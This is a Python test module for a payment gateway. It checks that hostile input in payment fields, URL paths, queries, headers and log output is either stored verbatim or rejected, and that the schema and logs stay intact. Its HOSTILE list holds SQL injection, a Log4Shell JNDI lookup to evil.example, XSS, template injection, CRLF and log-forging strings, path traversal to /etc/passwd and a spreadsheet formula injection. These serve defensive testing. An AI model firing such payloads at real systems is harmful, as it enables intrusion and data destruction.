"""Hostile texts in every field, header and query: stored as they are or refused, nothing else."""

import io
import json
import logging
import sys
import warnings
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest

from gateway.telemetry import logs
from tests.api.conftest import Api, Caller, ask, request_bytes

HOSTILE = (
    "'; drop table payments; --",
    "' or '1'='1",
    '" or ""="',
    "1); delete from journal; --",
    "\\'; select pg_sleep(10); --",
    "$1 $2 %s %(a)s {0} {a} :a",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} <%= 7*7 %> #{7*7}",
    "<script>alert(1)</script>",
    '"}\n{"level":"error","event":"forged"}',
    "line one\r\nline two",
    "\x1b[2J\x1b[31mred",
    "\u202egnirts desrever",
    "a\u2028b",
    "../../../../etc/passwd",
    "x" * 200,
    "\U0001f4b8" * 50,
    "=cmd|' /C calc'!A1",
    "Ω≈ç√∫˜µ≤≥÷",
    "0x00",
    "NaN",
    "null",
)
TEXTS = (
    "merchant_order_no",
    "currency",
    "subject",
    "method",
    "capture_method",
    "return_url",
    "notify_url",
    "wallet_id",
)


@pytest.fixture
def schema_stands(api: Api) -> Any:
    """The tables, columns and routines of the database."""

    async def look() -> list[Any]:
        rows = await api.world.sql(
            "select table_name, column_name, data_type from information_schema.columns "
            "where table_schema not in ('pg_catalog', 'information_schema') order by 1, 2"
        )
        return [tuple(row) for row in rows]

    return look


async def test_in_every_field_of_a_payment(api: Api, merchant: Caller, schema_stands: Any) -> None:
    before, counted = await schema_stands(), await api.counts()
    made = 0
    for text in HOSTILE:
        bodies = [api.order(**{name: text}) for name in TEXTS]
        bodies += [
            api.order(metadata={"k": text}),
            api.order(metadata={text: "v"}),
            api.order(customer={"id": text, "name": text}),
            api.order(method="alipay_qr", method_options={"o": text}),
            api.order(method="alipay_qr", method_options={text: "v"}),
            api.order(**{text: "v"}),
        ]
        for body in bodies:
            answer = await merchant.post("/v1/payments", body)
            assert answer.status in (201, 400, 422), (body, answer)
            if answer.status == 201:
                made += 1
                payment = answer.body
                assert payment["subject"] == body["subject"]
                assert payment["metadata"] == body.get("metadata", {})
                assert payment["customer"] == body.get("customer")
                again = await merchant.get(answer.headers["Location"])
                assert again.body["id"] == payment["id"]
    assert await schema_stands() == before
    after = await api.counts()
    assert after["payments"] == counted["payments"] + made
    assert after["journal"] >= counted["journal"] + made


async def test_in_paths_queries_and_other_bodies(api: Api, schema_stands: Any) -> None:
    # Some of the texts are business numbers: nobody else may have used them here.
    before, merchant = await schema_stands(), await api.new_merchant()
    payment = (await merchant.post("/v1/payments", api.order())).body["id"]
    async with api.no_effect():
        for text in HOSTILE:
            quoted = quote(text, safe="")
            for target in (
                f"/v1/payments/{quoted}",
                f"/v1/payments?merchant_order_no={quoted}",
                f"/v1/payments?channel_order_no={quoted}",
                f"/v1/payments?status={quoted}",
                f"/v1/payments?cursor={quoted}",
                f"/v1/payments?created_from={quoted}",
                f"/v1/payments?{quoted}=1",
                f"/v1/refunds?merchant_refund_no={quoted}",
                f"/v1/refunds?payment_id={quoted}",
                f"/v1/events?types={quoted}",
                f"/v1/events/{quoted}",
                f"/v1/balance/transactions?currency={quoted}",
                f"/v1/payments/{payment}?refresh={quoted}",
            ):
                assert (await merchant.get(target)).status in (400, 404), target
            for target, body in (
                (f"/v1/payments/{payment}/confirm", {"method": text[:32]}),
                ("/v1/refunds", {"payment_id": text, "merchant_refund_no": "R", "amount": 1}),
                ("/v1/webhook_endpoints", {"url": text, "events": [text]}),
                ("/v1/webhook_endpoints", {"url": "https://a.example/", "events": [text[:64]]}),
            ):
                answer = await merchant.post(target, body)
                assert answer.status in (400, 404, 422), (target, body)
    assert await schema_stands() == before


async def test_in_headers(api: Api, merchant: Caller) -> None:
    for text in HOSTILE:
        value = (
            text.replace("\r", "").replace("\n", "").encode("utf-8", "replace").decode("latin-1")
        )
        for name in ("User-Agent", "X-Request-Id", "X-Forwarded-For", "Idempotency-Key", "Accept"):
            data = request_bytes(merchant, "GET", "/v1/balance")
            line = f"\r\n{name}: {value}\r\n\r\n".encode("latin-1")
            answer = await ask(api.world, data.replace(b"\r\n\r\n", line, 1))
            # Control characters make a request that is no HTTP.
            assert answer.status in (200, 400), (name, text)
        bad = f"GET /v1/balance HTTP/1.1\r\nHost: t\r\nAuthorization: {value or 'x'}\r\n\r\n"
        assert (await ask(api.world, bad.encode("latin-1"))).status in (400, 401)


@pytest.fixture
def written(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """What the process logs, in the form of production; all hooks are put back afterwards."""
    root = logging.getLogger()
    kept = [*root.handlers], root.level
    for owner, name in ((sys, "excepthook"), (sys, "unraisablehook"), (warnings, "formatwarning")):
        monkeypatch.setattr(owner, name, getattr(owner, name))
    stream = io.StringIO()
    logs.configure(form="json", level="debug", stream=stream)
    yield stream
    logging.captureWarnings(False)
    root.handlers[:], level = kept
    root.setLevel(level)


async def test_log_lines_stay_one_line_of_json(
    api: Api, merchant: Caller, written: io.StringIO, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A fault of ours is logged while hostile text passes: one line each, and not of its making."""

    async def breaks(*_: Any, **__: Any) -> None:
        raise RuntimeError("\r\n".join(HOSTILE))

    monkeypatch.setattr(api.world.core.reader, "payment_by_number", breaks)
    for text in HOSTILE:
        answer = await merchant.get(f"/v1/payments?merchant_order_no={quote(text, safe='')}")
        assert (answer.status, answer.body["code"]) == (500, "internal_error")
        assert text not in json.dumps(answer.body["detail"])
    lines = written.getvalue().splitlines()
    assert len(lines) == len(HOSTILE)
    for line in lines:
        said = json.loads(line)
        assert said["level"] == "error" and said["request_id"].startswith("req_")
        assert "forged" not in line and "drop table" not in line
